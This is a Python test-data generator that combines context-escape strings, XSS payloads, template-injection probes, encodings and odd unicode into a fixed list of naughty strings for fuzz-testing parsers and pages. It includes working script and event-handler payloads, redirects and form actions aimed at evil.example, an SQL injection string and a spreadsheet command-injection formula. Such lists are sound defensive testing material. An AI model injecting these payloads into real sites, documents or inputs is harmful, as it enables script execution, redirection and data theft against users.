"""Texts that have broken somebody's page: attacks, and names that nobody thought of, by a seed.

Each is made of a way out of where text stands, something that would run or be drawn, and a
disguise; the rest are signs that parsers, terminals and databases trip over.
"""

import itertools
import random

OUT_OF = (
    "",
    '"',
    "'",
    "`",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</svg>",
    "</select>",
    "</option>",
    "</td></tr></table>",
    "</bdi>",
    "</a>",
    "</details>",
    '">',
    "'>",
    "/>",
    "*/",
    "}}",
    "%}",
    "#}",
    "\\",
    '\\"',
    "&quot;",
    "&#34;>",
    "\N{FULLWIDTH QUOTATION MARK}>",
    "\x00>",
)
RUNS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<b>bold</b>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mi//xlink:href='data:x'>",
    "<form action=//evil.example><input name=csrf>",
    "<button formaction=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<template><img src=x></template>",
    "<noscript><p title='</noscript><img src=x>'>",
    "<select><option>x",
    "<textarea>",
    "<plaintext>",
    "<xmp>",
    "<!--",
    "<![CDATA[",
    "<?php echo 1 ?>",
    "{{ 7 * 7 }}",
    "{% for x in y %}",
    "{# #}",
    "${7*7}",
    "<%= 7 * 7 %>",
    "#{7*7}",
    "[[${7*7}]]",
    " onmouseover=alert(1) x=",
    " autofocus onfocus=alert(1) ",
    " style=position:fixed ",
    "javascript:alert(1)",
    "<mark",
    "<bdi dir=rtl>",
    "<slot>",
    "<portal src=//evil.example>",
    "<isindex>",
    "<keygen>",
    "<frameset>",
)
_DISGUISES = (
    lambda text: text,
    str.upper,
    lambda text: text.replace("<", "&lt;"),
    lambda text: text.replace("<", "&#60;"),
    lambda text: text.replace("<", "%3C"),
    lambda text: text.replace("<", "\\u003c"),
    lambda text: text.replace("<", "\N{FULLWIDTH LESS-THAN SIGN}"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("script", "scr\u00adipt"),
)
_SIGNS = (
    "\N{RIGHT-TO-LEFT OVERRIDE}",
    "\N{LEFT-TO-RIGHT ISOLATE}",
    "\N{ZERO WIDTH JOINER}",
    "\ufeff",
    "\N{COMBINING LONG STROKE OVERLAY}",
    "\N{HEBREW LETTER ALEF}",
    "\N{ARABIC LETTER BEH}",
    "\U0001f9d9",
    "\N{LINE SEPARATOR}",
    "\x7f",
    "\x1b[31m",
    "\ufffd",
    "\N{CJK UNIFIED IDEOGRAPH-6F22}",
    "'",
    '"',
    "&",
    "<",
    ">",
    "%s",
    "%00",
    "../",
    "\\",
    "NULL",
    "undefined",
    "-1",
    "1e309",
    "NaN",
    "--",
    ";",
    "\u202e",
    "\u00a0",
    "\u2066",
    "\u2069",
    "\ufff9",
    "a\u0300" * 5,
    "=cmd|' /C calc'!A0",
    "' OR 1=1 --",
)


def naughty(least: int = 5000) -> list[str]:
    """Return at least so many of them, each once, always the same."""
    chance = random.Random(20261125)
    made = dict.fromkeys(
        out_of + disguise(runs)
        for out_of, runs, disguise in itertools.product(OUT_OF, RUNS, _DISGUISES)
    )
    found = sorted(made)
    chance.shuffle(found)
    signs = ["".join(chance.choices(_SIGNS, k=chance.randint(1, 8))) for _ in range(1500)]
    every = [(out_of + runs) for out_of in OUT_OF[:12] for runs in RUNS]
    return list(dict.fromkeys([*every, *found[:least], *signs, "x" * 5000]))
